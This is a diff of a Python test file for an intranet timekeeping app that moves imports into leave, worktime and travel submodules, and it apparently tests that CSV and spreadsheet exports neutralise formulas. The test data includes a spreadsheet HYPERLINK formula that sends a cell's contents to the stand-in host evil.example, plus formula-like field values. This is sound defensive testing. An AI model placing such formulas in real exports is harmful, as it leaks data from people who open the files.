@@ -13,9 +13,9 @@ from openpyxl import load_workbook
 
 from intranet.cells import Hours, csv_field
 from intranet.downloads import attachment
-from timekeeping.models import LeaveType
-from timekeeping.services import entitlement_grant, leave_request_create
-from timekeeping.time_services import time_entry_create
+from timekeeping.leave.models import LeaveType
+from timekeeping.leave.services import entitlement_grant, leave_request_create
+from timekeeping.worktime.services import time_entry_create
 
 BERLIN = ZoneInfo("Europe/Berlin")
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Klick")'
@@ -114,7 +114,7 @@ def test_working_time_xlsx_has_decimal_hours_and_follows_the_payroll_layout(clie
 def test_training_and_logbook_csv_neutralise_formulas(client, cast) -> None:
     from reservations.services import Request, booking_create
     from tests.factories import make_licence_check, make_resource
-    from timekeeping.models import Training
+    from timekeeping.travel.models import Training
 
     Training.objects.create(person=cast.ada, course="=1+1", provider="@VHS", start=date(2026, 11, 2),
                             end=date(2026, 11, 2), place="Darmstadt", fee=Decimal("180.50"),
